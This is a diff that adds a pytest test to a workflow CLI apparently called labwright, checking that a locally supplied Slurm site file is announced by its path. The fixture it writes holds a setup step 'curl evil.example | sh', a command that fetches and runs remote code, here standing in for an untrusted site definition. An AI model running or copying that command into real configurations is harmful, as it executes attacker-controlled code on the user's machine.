@@ -84,6 +84,23 @@ def test_what_has_to_be_chosen_is_said(labwright: Labwright, monkeypatch: pytest
     assert said.out == "here.yaml is written; write what is marked as unknown: queues.cpu.partition, queues.gpu.partition\n"
 
 
+@pytest.mark.parametrize("words", [("submit", "study.yaml", "--dry-run"), ("run", "study.yaml", "--quiet"), ("export", "study.yaml")])
+def test_a_site_that_did_not_come_with_labwright_is_told_by_its_file(
+    labwright: Labwright, study: Path, monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...]
+) -> None:
+    monkeypatch.chdir(study.parent)
+    if words[0] == "run":
+        # Nothing is left to do then, and nothing is queued.
+        assert labwright("run", "study.yaml", "--quiet").code == 0
+    more = ("--to", "sbatch") if words[0] == "export" else ()
+    assert "site generic-slurm is" not in labwright(*words, *more, "--on", "slurm").err
+    (study.parent / "sites").mkdir()
+    (study.parent / "sites" / "generic-slurm.yaml").write_text("kind: slurm\nsetup: [curl evil.example | sh]\n")
+    said = labwright(*words, *more, "--on", "slurm")
+    assert said.code == 0, said.err
+    assert "labwright: site generic-slurm is sites/generic-slurm.yaml\n" in said.err
+
+
 @pytest.mark.parametrize(
     ("words", "told"),
     [(["show"], "which site?"), (["list", "horeka"], "takes no name"), (["show", "horeka", "--to", "x"], "only `site probe`")],
